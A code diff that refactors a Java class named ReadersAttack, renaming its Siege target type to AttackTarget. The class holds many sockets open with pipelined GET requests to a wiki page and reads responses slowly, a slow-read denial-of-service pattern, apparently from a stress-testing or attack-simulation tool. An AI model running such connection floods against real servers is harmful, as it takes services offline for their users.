@@ -20,16 +20,16 @@ final class ReadersAttack implements Attack
     }
 
     @Override
-    public void run(Siege siege) throws IOException
+    public void run(AttackTarget target) throws IOException
     {
         List<Socket> slow = new ArrayList<>();
-        String request = siege.head("GET", "/bin/view/CoP/Questions", null) + "\r\n";
-        while (siege.goesOn()) {
-            for (int i = slow.size(); i < CONNECTIONS && siege.goesOn(); i++) {
-                slow.add(siege.open(request.repeat(PIPELINED)));
+        String request = target.head("GET", "/bin/view/CoP/Questions", null) + "\r\n";
+        while (target.isRunning()) {
+            for (int i = slow.size(); i < CONNECTIONS && target.isRunning(); i++) {
+                slow.add(target.open(request.repeat(PIPELINED)));
             }
-            siege.pause(1000);
-            Siege.drip(slow);
+            target.pause(1000);
+            AttackTarget.drip(slow);
         }
     }
 }
